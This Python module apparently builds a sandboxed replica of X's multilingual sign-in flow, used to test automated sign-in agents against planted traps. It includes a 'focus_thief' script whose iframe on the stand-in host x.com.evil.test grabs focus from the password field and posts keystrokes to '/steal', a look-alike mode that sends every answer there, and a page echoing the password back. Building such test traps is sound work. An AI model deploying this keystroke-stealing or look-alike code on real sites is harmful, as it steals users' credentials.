"""X replica's sign-in app: its texts per language, the page that swaps its step in place, and
the sign-in misbehaviours that live in the page (focus_thief's frame, echo_password's echo).

The server side of each step is optout.sandbox.x.X.task."""

from __future__ import annotations

import html
import json
from urllib.parse import quote

from optout.sandbox.kit import challenge
from optout.sandbox.replica import BUSY_PATH, Response, page

LOGIN_PATH = "/i/flow/login"
TASK_PATH = "/i/api/1.1/onboarding/task.json"
LOOKALIKE_HOST = "x.com.evil.test"

IDENTIFIER_HEADING = "Enter your phone number or username"
#: The sign-in app's texts per language: title, identifier field, Next, Forgot password?, the
#: unusual-activity heading, its field, Password, Log in, the 2FA heading. German and French pages
#: (the german and french misbehaviours) carry X's own bundle strings where the bundle has them
#: (DzikStar/X-SCRAPER client-web/i18n/{de,fr}.js at 9cd43d52: ca042c78 "Log in to X", c1df579e
#: "Next", d1091f50 "Forgot password?", d1f6d336 "Username", dec3c9b8 "Password", e919c3bc "Log in",
#: dd703318 "Two-factor authentication"; H as strings), and the server-sent step texts public code
#: quotes: de identifier field "Telefonnummer, E-Mail-Adresse oder Nutzername" (M: Selenium and
#: Playwright scripts), de unusual-activity heading "Gib deine Telefonnummer oder deinen Nutzernamen
#: ein" (M/L: one Selenium script), fr identifier field (L: look-alike clones); the spanish
#: misbehaviour's es bundle strings, its unusual-activity heading "Introduce tu número de teléfono o
#: nombre de usuario" (M: two Selenium scripts) and first-step field (L/M: clones, one Selenium
#: script). The French
#: unusual-activity heading and the German, French and Spanish 2FA headings are not sourced as sign-in texts:
#: those are the replica's own, made of bundle words, so no flow knows them (a member meeting them
#: gets no guess: nothing is typed, the sign-in reads broken).
LOGIN_TEXTS = {
    "en": (
        "Sign in to X",
        "Phone, email, or username",
        "Next",
        "Forgot password?",
        IDENTIFIER_HEADING,
        "Phone or username",
        "Password",
        "Log in",
        "Enter your verification code",
    ),
    "de": (
        "Bei X anmelden",
        "Telefonnummer, E-Mail-Adresse oder Nutzername",
        "Weiter",
        "Passwort vergessen?",
        "Gib deine Telefonnummer oder deinen Nutzernamen ein",
        "Nutzername",
        "Passwort",
        "Anmelden",
        "Zwei-Faktor-Authentifizierung",
    ),
    "fr": (
        "Se connecter à X",
        "Numéro de téléphone, adresse email ou nom d'utilisateur",
        "Suivant",
        "Mot de passe oublié ?",
        "Numéro de téléphone ou nom d'utilisateur",
        "Nom d'utilisateur",
        "Mot de passe",
        "Se connecter",
        "Authentification à deux facteurs",
    ),
    "es": (
        "Iniciar sesión en X",
        "Teléfono, correo electrónico o nombre de usuario",
        "Siguiente",
        "¿Olvidaste tu contraseña?",
        "Introduce tu número de teléfono o nombre de usuario",
        "Nombre de usuario",
        "Contraseña",
        "Iniciar sesión",
        "Autenticación en dos fases",
    ),
    # Bundle strings only; the first-step field and the unusual-activity heading are server-sent
    # and not sourced in da/fi: the bundle's "Username" stands in (the replica's own, no flow's).
    "da": (
        "Log ind på X",
        "Brugernavn",
        "Næste",
        "Glemt adgangskode?",
        "Brugernavn",
        "Brugernavn",
        "Adgangskode",
        "Log ind",
        "Godkendelse med to faktorer",
    ),
    "fi": (
        "Kirjaudu X:ään",
        "Käyttäjätunnus",
        "Seuraava",
        "Unohditko salasanasi?",
        "Käyttäjätunnus",
        "Käyttäjätunnus",
        "Salasana",
        "Kirjaudu sisään",
        "Kaksivaiheinen tunnistus",
    ),
}
#: focus_thief: a cross-origin frame on the sign-in page that takes the keyboard focus whenever the
#: password field gets it, and sends whatever is typed there to its own server.
CATCHER_PATH, STEAL_PATH = "/catcher", "/steal"
CATCHER = '<input id="keys" aria-label="keys">'
CATCHER_SCRIPT = """
const keys = document.getElementById('keys');
window.addEventListener('focus', () => keys.focus());
keys.addEventListener('input', () => fetch('/steal', {method: 'POST', headers: {'content-type': 'application/json'},
  body: JSON.stringify({value: keys.value})}));"""
THIEF = f"""
  const thief = document.createElement('iframe');
  thief.src = 'https://{LOOKALIKE_HOST}{CATCHER_PATH}';
  thief.title = 'Security';
  root.appendChild(thief);
  const pw = root.querySelector('input[type=password]');
  if (pw) pw.addEventListener('focus', () => {{ thief.focus(); thief.contentWindow.focus(); }});"""


def signin_page(replica, *, lookalike: bool = False) -> Response:
    """The sign-in app at LOGIN_PATH: one page whose step is swapped in place after each answer
    from TASK_PATH; the look-alike host's copy posts everything to STEAL_PATH."""
    task_url = f"https://{LOOKALIKE_HOST}{STEAL_PATH}" if lookalike else TASK_PATH
    lang = replica.page_lang()
    title, field, next_, forgot, heading, label, password, log_in, code_heading = LOGIN_TEXTS[lang]
    e = html.escape
    asked = "phone number or username"
    if replica.misbehaves("identifier_email"):
        heading, asked, label = "Verify your identity", "email address", "Email address"
    elif replica.misbehaves("identifier_phone_email"):
        heading, asked, label = (
            "Verify your identity",
            "phone number or email address",
            "Phone or email",
        )
    # The explanations under the headings are English only: none is sourced in another language.
    unusual = (
        f"""<p>There was unusual login activity on your account. To help keep your account safe, please enter
your {asked} to verify it’s you.</p>"""
        if lang == "en"
        else ""
    )
    code_hint = (
        "<p>Use your code generator app to generate a code and enter it below.</p>"
        if lang == "en"
        else ""
    )
    password_heading, code_label = (
        ("Enter your password", "Enter code") if lang == "en" else (title, "")
    )
    views = {
        "username": f"""<h1 id="modal-header">{e(title)}</h1>
<button type="button">Sign in with Apple</button>
<label>{e(field)} <input name="text" type="text" autocomplete="username"></label>
<button type="button" data-go="username">{e(next_)}</button>
<button type="button">{e(forgot)}</button>""",
        "identifier": f"""<h1 id="modal-header">{e(heading)}</h1>
{unusual}
<label>{e(label)} <input name="text" type="text" data-testid="ocfEnterTextTextInput"></label>
<button type="button" data-go="identifier" data-testid="ocfEnterTextNextButton">{e(next_)}</button>""",
        "password": f"""<h1 id="modal-header">{e(password_heading)}</h1>
<label>{e(password)} <input name="password" type="password" autocomplete="current-password"></label>
<button type="button">{e(forgot)}</button>
<button type="button" data-go="password" data-testid="LoginForm_Login_Button">{e(log_in)}</button>""",
        "2fa": f"""<h1 id="modal-header">{e(code_heading)}</h1>
{code_hint}
<label>{e(code_label)} <input name="text" type="text" inputmode="numeric" data-testid="ocfEnterTextTextInput"></label>
<button type="button" data-go="2fa" data-testid="ocfEnterTextNextButton">{e(next_)}</button>""",
        "arkose": """<h1 id="modal-header">Authenticate your account</h1>
<p>Solve this puzzle to verify that you’re a real person.</p>
<iframe title="Verification challenge" src="https://client-api.arkoselabs.com/fc/gc/?token=replica"></iframe>""",
        # blocked_attempt: the refusal d60/twikit issue 276 quotes; the next attempt is let in.
        "blocked": """<h1 id="modal-header">Suspicious login prevented</h1>
<p>We blocked an attempt to access your account because we weren’t sure it was really you.</p>
<a href="/i/flow/login">Try again</a>""",
    }
    script = f"""
const VIEWS = {json.dumps(views)};
const THIEF = {json.dumps(replica.misbehaves("focus_thief"))};
const SLOW = {json.dumps(["2fa"] if replica.misbehaves("slow_verify") else [])};
const SPIN = {json.dumps(replica.misbehaves("slow_login_step"))};
const root = document.getElementById('flow');
let token = null;
function show(step) {{
  if (step.challenge) window.CHALLENGE_TOKEN = step.challenge;
  root.innerHTML = VIEWS[step.subtask] +
    (step.error ? '<div role="alert">' + step.error + '</div>' : '') + (step.echo ? step.echo.html : '');
  if (step.echo) root.querySelectorAll('input').forEach((i) => {{ i.setAttribute('value', step.echo.value); i.value = step.echo.value; }});
  if (THIEF && step.subtask === 'password') {{ {THIEF if replica.misbehaves("focus_thief") else ""} }}
  const input = root.querySelector('input');
  if (input) input.focus();
}}
root.addEventListener('click', async (event) => {{
  const button = event.target.closest('button[data-go]');
  if (!button) return;
  const input = root.querySelector('input');
  if (SLOW.includes(button.dataset.go)) await new Promise((done) => setTimeout(done, 500));
  const r = await fetch({json.dumps(task_url)}, {{method: 'POST', headers: {{'content-type': 'application/json'}},
    body: JSON.stringify({{flow_token: token, subtask: button.dataset.go, value: input ? input.value : ''}})}});
  const step = await r.json();
  token = step.flow_token || token;
  const go = () => {{
    if (step.subtask === 'done') {{
      const next = new URLSearchParams(location.search).get('redirect_after_login') || '/home';
      location.replace(next.startsWith('/') ? next : '/home');
    }} else show(step);
  }};
  if (SPIN) {{
    // slow_login_step: a status line (no progress bar) fetches in turn for 6 s before the answer shows.
    root.innerHTML = '<div role="status">Loading…</div>';
    const started = performance.now();
    for (let n = 1; performance.now() - started < 6000; n++) {{
      await fetch({json.dumps(BUSY_PATH)} + '?n=' + n, {{cache: 'no-store'}}).catch(() => null);
      root.firstChild.textContent = 'Loading… (' + n + ')';
      await new Promise((done) => setTimeout(done, 200));
    }}
    go();
    return;
  }}
  root.innerHTML = '<div role="progressbar" aria-label="Loading"></div>';
  // X renders the next step a moment after its answer arrives.
  setTimeout(go, 600);
}});
show({{subtask: 'username'}});
{challenge.script(None)}"""
    return page(
        '<div role="dialog" aria-labelledby="modal-header"><div id="flow"></div></div>',
        title="Log in to X / X",
        lang=lang,
        script=script,
    )


def echo(value: str) -> dict:
    """echo_password: a failure page that shows the typed password back, in text, in an attribute,
    in the page's JSON and in every input (the password field and a "shown" copy), without the
    words the flow knows for a failure."""
    data = json.dumps({"attempt": {"password": value}}).replace("</", "<\\/")
    shown = html.escape(value, quote=True)
    return {
        "value": value,
        "html": f"""<div role="alert" data-tried="{shown}">We could not sign you in with
“{html.escape(value)}”. <a href="/i/flow/login?tried={quote(value, safe="")}">Try again</a></div>
<input type="text" name="shown" value="{shown}" aria-label="Password shown">
<script type="application/json" id="attempt">{data}</script>""",
    }
